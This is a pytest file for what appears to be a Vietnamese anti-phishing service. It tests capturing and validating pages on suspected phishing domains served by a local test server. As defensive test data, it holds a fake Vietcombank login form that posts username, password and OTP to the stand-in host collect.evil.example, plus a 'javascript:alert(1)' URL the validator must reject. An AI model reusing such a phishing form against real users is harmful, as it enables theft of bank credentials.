"""Page captures in the queue: the link seen on a name comes first, an analyst's link must
be on the name, and the capture route of the page, the API and the CLI fetch for real (a
local server; nothing listens on ports 80/443 here)."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from fastapi.testclient import TestClient

from canhgiac.accounts import tokens
from canhgiac.accounts.roles import Role
from canhgiac.accounts.tokens import issue_user_token
from canhgiac.detectors.domains.scorer import load_domain_scorer
from canhgiac.detectors.pages.check import UrlChecker
from canhgiac.detectors.pages.fetch import PageFetcher
from canhgiac.detectors.text.classifier import load_text_classifier
from canhgiac.errors import ValidationFailed
from canhgiac.messages.service import check_and_store
from canhgiac.verification import service
from canhgiac.verification.models import DomainCandidate
from canhgiac.web.app import create_app
from canhgiac.web.deps import page_checker
from tests.factories import PASSWORD
from tests.web.conftest import bearer, csrf_from, login

pytestmark = pytest.mark.db

PHISH = "vietcombank-xacminh-taikhoan.xyz"
KIT_PATH = "/vcb/dang-nhap.php"
KIT_PAGE = (
    "<html><title>Vietcombank - Xác minh tài khoản</title><body><h1>Vietcombank</h1>"
    "<form action='https://collect.evil.example/p' method='post'><input name='username'>"
    "<input type='password' name='password'><input name='otp' placeholder='Mã OTP'></form>"
    "</body></html>"
)


class _Kit(BaseHTTPRequestHandler):
    """A phishing kit under a path; the home page is an empty 404, as kits often leave it."""

    def log_message(self, *args):
        pass

    def do_GET(self):
        found = self.path.split("?", 1)[0] == KIT_PATH
        body = (KIT_PAGE if found else "<html><title>404</title></html>").encode()
        self.send_response(200 if found else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def kit_port() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Kit)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def settings(settings):
    # No registration or DNS look-ups: they would leave the machine.
    return settings.model_copy(update={"infrastructure_lookups": False})


def _checker(settings) -> UrlChecker:
    fetcher = PageFetcher.from_settings(settings, resolver=lambda _host, _port: ["127.0.0.1"])
    return UrlChecker.from_settings(settings, fetcher=fetcher, name_scorer=None)


def test_a_messages_link_is_kept_and_captured_first(db, settings, kit_port):
    text = (
        "Vietcombank thong bao: tai khoan cua quy khach bi tam khoa. Xac minh ngay tai "
        f"http://{PHISH}:{kit_port}{KIT_PATH}?id=Kh8271 de tranh bi khoa vinh vien."
    )
    check_and_store(db, load_text_classifier(), text=text, source="api")
    candidate = db.query(DomainCandidate).filter_by(name=PHISH).one()
    assert candidate.source == "message"
    assert candidate.sample_url == f"http://{PHISH}:{kit_port}{KIT_PATH}?id=Kh8271"
    service.capture_candidate(db, _checker(settings), candidate, screenshot=False)
    capture = candidate.capture
    assert capture["url"] == candidate.sample_url
    assert capture["page"]["title"] == "Vietcombank - Xác minh tài khoản"
    assert capture["score"] > 0.5
    # Seen again without a link: the first link stays.
    service.enqueue_names(db, load_domain_scorer(), [PHISH], source="ct")
    assert candidate.sample_url.endswith("?id=Kh8271") and candidate.seen_count == 2


def test_without_a_link_the_home_page_is_tried_and_its_error_kept(db, settings):
    service.enqueue_names(db, load_domain_scorer(), [PHISH], source="ct")
    candidate = service.list_candidates(db).items[0]
    service.capture_candidate(db, _checker(settings), candidate, screenshot=False)
    assert candidate.capture["url"] == f"https://{PHISH}/"  # the first attempt's error
    assert candidate.capture["fetch"]["error"]


def test_an_analysts_link_must_be_on_the_name(db, settings, kit_port):
    service.enqueue_names(db, load_domain_scorer(), [PHISH], source="ct")
    candidate = service.list_candidates(db).items[0]
    for other in ("https://vietcombank.com.vn/", f"https://x{PHISH}/", "javascript:alert(1)"):
        with pytest.raises(ValidationFailed) as err:
            service.capture_candidate(
                db, _checker(settings), candidate, screenshot=False, url=other
            )
        assert err.value.field == "url"
    assert candidate.capture is None
    # A sub-domain is the name's; a link that fails is kept as it is, with no fallback.
    service.capture_candidate(
        db, _checker(settings), candidate, screenshot=False, url=f"http://login.{PHISH}:{kit_port}/"
    )
    assert candidate.capture["url"] == f"http://login.{PHISH}:{kit_port}/"
    assert candidate.capture["fetch"]["status"] == 404


def _app(settings, test_session_factory):
    """The web app whose page checker resolves every name to this machine."""
    app = create_app(settings, session_factory=test_session_factory)
    app.dependency_overrides[page_checker] = lambda: _checker(settings)
    return app


def _queued(db) -> DomainCandidate:
    service.enqueue_names(db, load_domain_scorer(), [PHISH], source="ct")
    return service.list_candidates(db).items[0]


def test_capture_route_fetches_the_analysts_link(
    db, factories, settings, test_session_factory, kit_port
):
    candidate = _queued(db)
    link = f"http://{PHISH}:{kit_port}{KIT_PATH}"
    analyst = factories.user(role=Role.ANALYST)
    with TestClient(_app(settings, test_session_factory), follow_redirects=False) as browser:
        assert login(browser, analyst.username, PASSWORD).status_code == 303
        page = browser.get(f"/verification?id={candidate.id}")
        assert 'name="url"' in page.text and f"https://{PHISH}/" in page.text
        done = browser.post(
            f"/verification/{candidate.id}/capture",
            data={"url": link, "csrf_token": csrf_from(page.text)},
        )
        assert done.status_code == 303
        shown = browser.get(f"/verification?id={candidate.id}")
        assert "Vietcombank - Xác minh tài khoản" in shown.text and link in shown.text
        refused = browser.post(
            f"/verification/{candidate.id}/capture",
            data={"url": "http://127.0.0.1/", "csrf_token": csrf_from(shown.text)},
        )
        assert refused.status_code == 303
        after = browser.get(f"/verification?id={candidate.id}").text
        assert f"the link must be on {PHISH}" in after
        assert "Vietcombank - Xác minh tài khoản" in after  # the earlier capture is kept
    db.refresh(candidate)
    assert candidate.capture["page"]["title"] == "Vietcombank - Xác minh tài khoản"


def test_capture_through_the_api(db, factories, settings, test_session_factory, kit_port):
    candidate = _queued(db)
    analyst = bearer(
        issue_user_token(db, user=factories.user(role=Role.ANALYST), ttl_seconds=600).secret
    )
    viewer = bearer(
        issue_user_token(db, user=factories.user(role=Role.VIEWER), ttl_seconds=600).secret
    )
    url = f"/api/v1/verification/{candidate.id}/capture"
    body = {"url": f"http://{PHISH}:{kit_port}{KIT_PATH}"}
    with TestClient(_app(settings, test_session_factory)) as client:
        ok = client.post(url, json=body, headers=analyst)
        assert ok.status_code == 200, ok.text
        assert ok.json()["capture"]["page"]["title"] == "Vietcombank - Xác minh tài khoản"
        bad = client.post(url, json={"url": "https://example.org/"}, headers=analyst)
        assert bad.status_code == 422 and bad.json()["field"] == "url"
        assert client.post(url, json=body, headers=viewer).status_code == 403
        missing = client.post("/api/v1/verification/999999/capture", json={}, headers=analyst)
        assert missing.status_code == 404
        # The URL check endpoint uses the same checker.
        token = tokens.create_machine_token(
            db, agency=factories.agency(), name="Kiểm tra", scopes=["detect"]
        )
        checked = client.post(
            "/api/v1/detect/url", json={"url": body["url"]}, headers=bearer(token.secret)
        )
        assert checked.status_code == 200 and checked.json()["score"] > 0.5


def test_the_cli_refuses_a_link_off_the_name(cli):
    queued = cli("verification", "import", "-", input=f"{PHISH}\n")
    assert json.loads(queued.stdout)["queued"] == 1
    wrong = cli("verification", "capture", "1", "--url", "https://vietcombank.com.vn/")
    assert wrong.exit_code == 1
    message = " ".join(wrong.stderr.split())
    assert "[url]" in message and f"the link must be on {PHISH}" in message


def test_pending_names_are_captured_concurrently_highest_score_first(db, settings, kit_port):
    others = ["acb-online-xacminh.top", "vaytien-tpbank-online.xyz"]
    service.enqueue_names(
        db,
        load_domain_scorer(),
        [PHISH, *others],
        source="message",
        links={PHISH: f"http://{PHISH}:{kit_port}{KIT_PATH}"},
    )
    by_name = {c.name: c for c in service.list_candidates(db).items}
    by_name[others[0]].status = "rejected"  # decided names are not fetched
    db.flush()
    top = max((by_name[PHISH], by_name[others[1]]), key=lambda c: (c.score, -c.id))
    first = service.capture_pending(db, _checker(settings), limit=1)
    assert first["checked"] == 1 and top.capture is not None
    rest = service.capture_pending(db, _checker(settings), limit=10, workers=3)
    assert rest["checked"] == 1 and rest["unusable"] == 0
    assert by_name[PHISH].capture["page"]["title"] == "Vietcombank - Xác minh tài khoản"
    # Nothing listens on 443/80 here: the other name keeps the first attempt's error.
    assert by_name[others[1]].capture["fetch"]["error"]
    assert by_name[others[0]].capture is None
    assert service.capture_pending(db, _checker(settings))["checked"] == 0


def test_the_scheduled_job_captures_the_queue(db, settings, kit_port, monkeypatch):
    from canhgiac.jobs.registry import all_jobs, run_job
    from canhgiac.verification import jobs

    assert all_jobs()["verification.capture_pending"].schedule == {"minute": "*/10"}
    monkeypatch.setattr(jobs, "page_checker", _checker)
    service.enqueue_names(
        db,
        load_domain_scorer(),
        [PHISH],
        source="message",
        links={PHISH: f"http://{PHISH}:{kit_port}{KIT_PATH}"},
    )
    assert run_job("verification.capture_pending", settings, db) == {
        "checked": 1,
        "answered": 1,
        "unusable": 0,
    }
    candidate = service.list_candidates(db).items[0]
    assert candidate.capture["url"] == f"http://{PHISH}:{kit_port}{KIT_PATH}"
